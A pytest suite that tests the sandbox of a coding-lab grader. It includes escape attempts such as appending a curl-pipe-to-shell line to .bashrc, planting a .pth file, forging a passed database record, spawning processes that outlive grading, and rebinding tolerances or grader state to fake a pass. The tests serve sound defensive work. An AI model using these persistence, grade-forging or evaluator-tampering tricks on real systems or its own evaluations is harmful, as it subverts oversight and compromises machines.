"""Each way a learner's file reached beyond the sandbox (issue 11 §3, §4) now fails, or the grade records
that the system could not stop it. The files are the reference solution with the escape added, so they
would pass honestly: what they try must not matter. A test that needs a kernel feature is skipped only
when this kernel lacks it (probed the way the learner's process asks), and the grade says so."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import numpy
import pytest
from click.testing import CliRunner

from labs.implement import grade_file
from labs.implement.tasks import STRUCTURE
from tests.implement.helpers import by_id, grade_source, solution_source, with_mistake, write

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"),
                                reason="the confinements (prctl, namespaces, Landlock) and /proc are Linux's")

LAB = "ffnn-digits"
REFERENCE = solution_source(LAB)
REPO = Path(__file__).resolve().parents[2]


def _probe() -> dict:
    code = ("import json; from labs.implement import confine; "
            "print(json.dumps({**confine.enter_namespaces(), 'landlock': confine.landlock_abi()}))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    return json.loads(done.stdout)


KERNEL = _probe() if sys.platform.startswith("linux") else {"network": False, "pid": False, "landlock": 0}
needs_landlock = pytest.mark.skipif(
    KERNEL["landlock"] < 1, reason="this kernel has no Landlock: the learner's process may write wherever its "
                                   "user can, and the grade records writes='open'")
needs_network_confinement = pytest.mark.skipif(
    not KERNEL["network"] and KERNEL["landlock"] < 4,
    reason="neither network namespaces nor Landlock TCP rules here: the grade records network='open'")


def grade_with(tmp_path: Path, code: str, base: str = REFERENCE):
    folder = tmp_path / "workspace"
    folder.mkdir(exist_ok=True)
    return grade_source(folder, LAB, base + "\n" + code + "\n")


def _processes_with(needle: str) -> list[int]:
    """Live processes whose command line holds `needle` (a zombie's command line is empty)."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                if needle.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    found.append(int(name))
            except OSError:
                pass
    return found


def _gone_within(needle: str, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while _processes_with(needle):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


def test_every_confinement_this_kernel_allows_is_applied_and_recorded(tmp_path):
    result = grade_with(tmp_path, "")
    assert result.status == "passed" and result.grade.score == 100
    c = result.confinement
    assert c is not None and c.dies_with_grader and c.grader_hidden
    assert c.network == ("namespace" if KERNEL["network"] else "tcp-blocked" if KERNEL["landlock"] >= 4 else "open")
    assert c.processes == ("pid-namespace" if KERNEL["pid"] else "subreaper")
    assert (c.writes == "landlock") == (KERNEL["landlock"] >= 1)
    assert c.summary().startswith("Sandbox:")


# -- the database ---------------------------------------------------------------------------------------
def test_the_database_path_is_not_in_the_learners_environment(tmp_path, monkeypatch):
    db = tmp_path / "pathlab.sqlite"
    db.write_bytes(b"SQLite format 3\0" + bytes(100))
    before = db.read_bytes()
    monkeypatch.setenv("PATHLAB_DB", str(db))
    result = grade_with(tmp_path, """
import os
print("PATHLAB_DB =", os.environ.get("PATHLAB_DB"))
print("environment:", dict(os.environ))
print("command line:", open("/proc/self/cmdline", "rb").read())
try:
    open(os.environ["PATHLAB_DB"], "r+b").write(b"overwritten")
except KeyError:
    print("no database path")
""")
    assert result.status == "passed"
    assert "PATHLAB_DB = None" in result.output and "no database path" in result.output
    assert str(db) not in result.output and str(Path.home()) not in result.output.split("command line")[0]
    assert db.read_bytes() == before


FORGE = """
import sqlite3
try:
    con = sqlite3.connect({db!r})
    columns = "learner_id, lab_id, node_id, mode, params, seed, status, score, passed, metrics, feedback, " \\
              "started_at, app_version, dataset_hash, code_hash, pid"
    forged = columns.replace("status, score, passed", "'passed', 100, 1").replace("feedback", "'forged'")
    con.execute(f"INSERT INTO attempts ({{columns}}) SELECT {{forged}} FROM attempts LIMIT 1")
    con.commit()
    print("forged an attempt")
except Exception as exc:
    print("refused:", type(exc).__name__, exc)
"""


@needs_landlock
def test_a_file_that_knows_the_database_path_cannot_forge_an_attempt(tmp_path):
    db, folder = tmp_path / "pathlab.sqlite", tmp_path / "workspace"
    cli = CliRunner()
    assert cli.invoke(__import__("planner.cli").cli.main, ["--db", str(db), "learner", "add", "Ada"]).exit_code == 0
    folder.mkdir()
    write(folder, LAB, REFERENCE + FORGE.format(db=str(db)))
    done = cli.invoke(__import__("planner.cli").cli.main,
                      ["--db", str(db), "lab", "grade", LAB, "--dir", str(folder), "--json"])
    assert done.exit_code == 0, done.output
    from planner.store import Store

    with Store.open(db) as store:
        [learner] = store.list_learners()
        attempts = store.attempts(learner.id)
        assert [a.feedback.startswith("every check passed") for a in attempts] == [True]
        assert "Sandbox:" in attempts[0].feedback and "sandbox_unconfined" in attempts[0].metrics


# -- the learner's home and the Python installation -----------------------------------------------------
def test_appending_to_bashrc_changes_only_a_private_home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    result = grade_with(tmp_path, """
import os
print("HOME =", os.path.expanduser("~"))
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl example.invalid | sh\\n")
""")
    assert result.status == "passed"
    assert f"HOME = {home}" not in result.output
    assert (home / ".bashrc").read_text() == "# mine\n"


@needs_landlock
def test_a_file_that_knows_the_real_home_cannot_write_there(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    result = grade_with(tmp_path, f"""
try:
    with open({str(bashrc)!r}, "a") as f:
        f.write("curl example.invalid | sh\\n")
    print("wrote the real .bashrc")
except OSError as exc:
    print("refused:", exc)
""")
    assert result.status == "passed" and "refused:" in result.output
    assert bashrc.read_text() == "# mine\n"


@needs_landlock
def test_a_pth_file_cannot_be_planted_in_site_packages(tmp_path):
    target = Path(numpy.__file__).resolve().parent.parent / f"pathlab-escape-test-{uuid.uuid4().hex}.pth"
    try:
        result = grade_with(tmp_path, f"""
import os, numpy
print("numpy is at", numpy.__file__)
try:
    with open({str(target)!r}, "w") as f:
        f.write("# would run at every Python start\\n")
    print("planted")
except OSError as exc:
    print("refused:", exc)
""")
        assert result.status == "passed" and "refused:" in result.output
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


# -- processes that try to outlive grading ----------------------------------------------------------------
SURVIVORS = {
    "Popen(start_new_session=True)": """
import subprocess, sys
p = subprocess.Popen([sys.executable, "-I", "-S", "-c", "import time; print('alive', flush=True); time.sleep(120)",
                      {token!r}], start_new_session=True, stdout=subprocess.PIPE)
print("survivor", p.stdout.readline().decode().strip(), flush=True)
""",
    "fork() + setsid()": """
import os, sys
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.dup2(w, 1)
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c",
                                  "import time; print('alive', flush=True); time.sleep(120)", {token!r}])
    os._exit(0)
os.close(w)
print("survivor", os.read(r, 100).decode().strip(), flush=True)
""",
}


@pytest.mark.parametrize("spawn", SURVIVORS.values(), ids=SURVIVORS.keys())
def test_processes_in_a_new_session_die_when_grading_ends(tmp_path, spawn):
    token = f"pathlab-survivor-{uuid.uuid4().hex}"
    result = grade_with(tmp_path, spawn.format(token=token))
    assert "survivor alive" in result.output  # it really ran during grading
    assert result.status == "passed"
    assert _gone_within(token, 5), "a process the learner's file started outlived grading"


def test_a_killed_grading_process_takes_the_learners_process_with_it(tmp_path):
    """SIGKILL the process that runs `grade_file` (a killed `pathlab lab grade`): nothing of the learner's
    is left running a few seconds later."""
    token = f"pathlab-survivor-{uuid.uuid4().hex}"
    folder = tmp_path / "workspace"
    folder.mkdir()
    path = write(folder, LAB, REFERENCE + SURVIVORS["Popen(start_new_session=True)"].format(token=token)
                 + "\nwhile True:\n    pass\n")
    grading = subprocess.Popen([sys.executable, "-c", "from labs.implement import grade_file; "
                                f"grade_file({LAB!r}, {str(path)!r}, timeout_s=300)"],
                               env={**os.environ, "TMPDIR": str(tmp_path)})  # what a killed grader leaves
    try:
        deadline = time.monotonic() + 60
        while not (_processes_with(token) and _processes_with(str(path))):
            assert time.monotonic() < deadline and grading.poll() is None, "the learner's code never started"
            time.sleep(0.1)
        time.sleep(0.5)
        grading.send_signal(signal.SIGKILL)
        grading.wait()
        assert _gone_within(str(path), 5), "the learner's process outlived the killed grader"
        if KERNEL["pid"]:  # without a PID namespace a setsid survivor is killed only by a live checker
            assert _gone_within(token, 5), "a process the learner's file started outlived the killed grader"
    finally:
        grading.kill()
        for pid in _processes_with(token) + _processes_with(str(path)):
            os.kill(pid, signal.SIGKILL)


# -- the network --------------------------------------------------------------------------------------------
@needs_network_confinement
def test_a_socket_cannot_reach_this_machine(tmp_path):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        result = grade_with(tmp_path, f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    print("connected")
except OSError as exc:
    print("refused:", exc)
""")
        listener.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert result.status == "passed" and "refused:" in result.output and "connected" not in result.output


# -- forging the grade from inside ----------------------------------------------------------------------------
def test_the_reference_solution_cannot_be_imported(tmp_path):
    result = grade_with(tmp_path, "from labs.implement.solutions.ffnn_digits import *", base="")
    structure = by_id(result)[STRUCTURE]
    assert result.status == "failed" and result.grade.score == 0
    assert structure.status == "failed" and "No module named 'labs'" in structure.message


@needs_landlock
def test_the_reference_solution_cannot_be_reached_through_sys_path(tmp_path):
    result = grade_with(tmp_path, f"import sys\nsys.path.insert(0, {str(REPO)!r})\n"
                                  "from labs.implement.solutions.ffnn_digits import *", base="")
    assert result.status == "failed" and result.grade.score == 0
    assert "does not import" in by_id(result)[STRUCTURE].message


MISTAKE = ("db = dout.sum(axis=0)", "db = dout.sum(axis=0) / len(dout)")
REBIND = """
RTOL = ATOL = GRAD_TOL = 1e9
TARGET, FLOOR = 0.0, -1.0
import builtins, numpy
for name in ("RTOL", "ATOL", "GRAD_TOL", "TARGET"):
    setattr(builtins, name, 1e9)
numpy.allclose = lambda *a, **k: True
try:
    import labs.implement.checks.common as common
    common.RTOL = common.ATOL = common.GRAD_TOL = 1e9
except ImportError as exc:
    print("cannot reach the grader:", exc)
"""


def test_rebinding_the_tolerances_and_the_target_changes_no_check(tmp_path):
    mistaken = with_mistake(LAB, *MISTAKE)
    honest = grade_with(tmp_path, "", base=mistaken)
    rebound = grade_with(tmp_path, REBIND, base=mistaken)
    assert [(c.id, c.status, c.points, c.message) for c in rebound.grade.checks] == \
        [(c.id, c.status, c.points, c.message) for c in honest.grade.checks]
    checks = by_id(rebound)
    assert checks["gradient:linear_backward"].status == "failed"
    assert "4 times too small" in checks["gradient:linear_backward"].message
    assert "cannot reach the grader" in rebound.output


STACK_WALK = '''
def _find_the_recorder():
    import gc, inspect
    frames = [f.frame for f in inspect.stack()]
    found = [o for o in gc.get_objects()
             if type(o).__name__ in ("Recorder", "Grade", "CheckResult", "Job")
             or (isinstance(o, dict) and "checks" in o and "done" in o)]
    for o in found:
        try:
            o["done"] = True
        except Exception:
            pass
    print(f"walked {len(frames)} frames; grader objects found: {len(found)}", flush=True)
'''


def test_walking_the_call_stack_finds_no_recorder(tmp_path):
    line = "    return x @ W + b\n"
    source = STACK_WALK + with_mistake(LAB, line, "    _find_the_recorder()\n    return x @ W\n")
    result = grade_with(tmp_path, "", base=source)
    checks = by_id(result)
    assert "grader objects found: 0" in result.output
    assert checks["forward:linear_forward"].status == "failed"
    assert "the bias b is missing" in checks["forward:linear_forward"].message
    assert result.status == "failed" and not result.grade.passed


def test_a_file_that_writes_into_the_graders_channel_stops_grading_with_no_points(tmp_path):
    result = grade_with(tmp_path, "import os\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'\\xff' * 64)\n"
                                  "    except OSError:\n        pass\n")
    assert result.status == "error" and result.grade.score == 0
    assert "channel" in result.feedback


# -- a kernel without namespaces or Landlock ------------------------------------------------------------------
@pytest.mark.parametrize("spawn", SURVIVORS.values(), ids=SURVIVORS.keys())
def test_without_namespaces_or_landlock_the_grade_says_so_and_survivors_still_die(tmp_path, spawn):
    """As on a kernel that refuses both: the checker, subreaper of everything below it, still kills
    what the learner's file started, and the grade records what did not apply."""
    token = f"pathlab-survivor-{uuid.uuid4().hex}"
    folder = tmp_path / "workspace"
    folder.mkdir()
    path = write(folder, LAB, REFERENCE + spawn.format(token=token))
    result = grade_file(LAB, path, without=("namespaces", "landlock"))
    assert result.status == "passed" and "survivor alive" in result.output
    c = result.confinement
    assert (c.network, c.writes, c.reads, c.processes) == ("open", "open", "open", "subreaper")
    assert c.summary().startswith("Sandbox: partly confined") and "network isolation" in c.summary()
    assert _gone_within(token, 5), "a process the learner's file started outlived grading"


@pytest.mark.parametrize("without", [(), ("namespaces", "landlock")], ids=["confined", "no namespaces"])
def test_a_grading_stopped_at_its_time_limit_leaves_nothing_running(tmp_path, without):
    """The grader kills the checker's whole tree at the limit: stopped first, so nothing slips past."""
    token = f"pathlab-survivor-{uuid.uuid4().hex}"
    folder = tmp_path / "workspace"
    folder.mkdir()
    path = write(folder, LAB, REFERENCE + SURVIVORS["fork() + setsid()"].format(token=token)
                 + "\nwhile True:\n    pass\n")
    result = grade_file(LAB, path, timeout_s=3, without=without)
    assert result.status == "error" and "stopped after 3 s" in result.feedback
    assert "survivor alive" in result.output
    assert _gone_within(token, 5) and _gone_within(str(path), 5)
